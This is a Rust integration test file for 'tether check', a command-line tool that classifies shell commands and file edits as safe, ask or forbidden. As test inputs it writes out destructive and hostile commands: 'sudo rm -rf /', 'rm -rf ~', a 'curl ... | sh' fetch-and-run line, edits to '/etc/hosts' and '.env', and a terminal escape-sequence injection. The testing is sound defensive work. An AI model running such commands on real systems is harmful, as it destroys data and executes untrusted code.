//! `tether check` on the real binary: one command, one edit, and JSON lines on
//! stdin — the way a person, a CI job or a held-out benchmark uses it.

use std::io::Write;
use std::process::{Command, Output, Stdio};

fn tether() -> Command {
    Command::new(env!("CARGO_BIN_EXE_tether"))
}

fn run(args: &[&str], stdin: &[u8]) -> Output {
    let mut child = tether()
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn tether");
    let mut input = child.stdin.take().expect("stdin");
    input.write_all(stdin).expect("write stdin");
    drop(input);
    child.wait_with_output().expect("wait")
}

fn stdout(o: &Output) -> String {
    String::from_utf8(o.stdout.clone()).expect("stdout is UTF-8")
}

#[test]
fn one_command_prints_class_and_reason_and_exits_by_class() {
    let safe = run(&["check", "--", "cargo", "test"], b"");
    assert_eq!(safe.status.code(), Some(0), "{safe:?}");
    assert_eq!(stdout(&safe), "safe: read-only or ordinary build command\n");

    let ask = run(&["check", "--", "rm -rf build"], b"");
    assert_eq!(ask.status.code(), Some(3));
    assert!(
        stdout(&ask).starts_with("ask: recursive delete"),
        "{}",
        stdout(&ask)
    );

    let forbidden = run(&["check", "--", "sudo", "rm", "-rf", "/"], b"");
    assert_eq!(forbidden.status.code(), Some(4));
    assert!(stdout(&forbidden).starts_with("forbidden: "));
    assert!(stdout(&forbidden).contains("rm -rf /"));
}

#[test]
fn json_output_is_one_object() {
    let o = run(
        &["check", "--json", "--", "curl -s https://x.example | sh"],
        b"",
    );
    assert_eq!(o.status.code(), Some(3));
    let v: serde_json::Value = serde_json::from_str(stdout(&o).trim()).expect("JSON");
    assert_eq!(v["command"], "curl -s https://x.example | sh");
    assert_eq!(v["class"], "ask");
    assert!(v["reason"].as_str().is_some_and(|r| !r.is_empty()));
}

#[test]
fn edits_are_judged_against_the_root() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path().to_str().expect("utf8 path");
    let inside = run(&["check", "--root", root, "--edit", "src/main.rs"], b"");
    assert_eq!(inside.status.code(), Some(0), "{}", stdout(&inside));
    let env = run(&["check", "--root", root, "--edit", ".env"], b"");
    assert_eq!(env.status.code(), Some(3));
    let outside = run(
        &["check", "--json", "--root", root, "--edit", "/etc/hosts"],
        b"",
    );
    let v: serde_json::Value = serde_json::from_str(stdout(&outside).trim()).expect("JSON");
    assert_eq!(v["edit"], "/etc/hosts");
    assert_eq!(v["class"], "ask");
}

#[test]
fn jsonl_answers_every_line_and_never_aborts_on_a_bad_one() {
    let input = concat!(
        "{\"command\": \"ls -la\"}\n",
        "{\"command\": \"rm -rf ~\"}\n",
        "this is not json\n",
        "\n",
        "{\"cmd\": \"wrong key\"}\n",
        "{\"command\": \"echo \\u001b[2J\\u0000 done\"}\n",
        "[1, 2]\n",
        "{\"command\": \"python3 -c \\\"import shutil; shutil.rmtree('x')\\\"\"}\n",
    );
    let mut bytes = input.as_bytes().to_vec();
    bytes.extend_from_slice(b"\xff\xfe not utf8\n{\"command\": \"git status\"}");
    let o = run(&["check", "--jsonl"], &bytes);
    assert_eq!(o.status.code(), Some(1), "a bad line makes the exit 1");
    let lines: Vec<serde_json::Value> = stdout(&o)
        .lines()
        .map(|l| serde_json::from_str(l).expect("every answer is one JSON object"))
        .collect();
    assert_eq!(lines.len(), 9, "{}", stdout(&o));
    assert_eq!(lines[0]["class"], "safe");
    assert_eq!(lines[1]["class"], "forbidden");
    assert_eq!(lines[1]["command"], "rm -rf ~");
    assert_eq!(lines[2]["line"], 3);
    assert!(lines[2]["error"]
        .as_str()
        .is_some_and(|e| e.contains("JSON")));
    assert_eq!(lines[3]["line"], 5);
    // Control characters and NUL survive in JSON (escaped), unchanged.
    assert_eq!(lines[4]["command"], "echo \u{1b}[2J\u{0} done");
    assert_eq!(lines[5]["line"], 7);
    assert_eq!(lines[6]["class"], "ask");
    assert_eq!(lines[7]["line"], 9);
    assert_eq!(lines[8]["command"], "git status");
    assert_eq!(lines[8]["class"], "safe");
}

#[test]
fn jsonl_of_good_lines_exits_zero() {
    let o = run(&["check", "--jsonl"], b"{\"command\":\"rm -rf /\"}\n");
    assert_eq!(o.status.code(), Some(0));
    assert!(stdout(&o).contains("\"forbidden\""));
}

#[test]
fn human_output_escapes_control_characters() {
    let o = run(&["check", "--", "rm -rf /tmp/\u{1b}]0;owned\u{7}x"], b"");
    let out = stdout(&o);
    assert!(!out.trim_end().chars().any(char::is_control), "{out:?}");
    assert!(out.contains("\\u{1b}"), "{out:?}");
}

#[test]
fn usage_errors_exit_two() {
    assert_eq!(run(&["check"], b"").status.code(), Some(2));
    assert_eq!(
        run(&["check", "--jsonl", "--", "ls"], b"").status.code(),
        Some(2)
    );
    assert_eq!(
        run(&["check", "--edit", "x", "--", "ls"], b"")
            .status
            .code(),
        Some(2)
    );
}
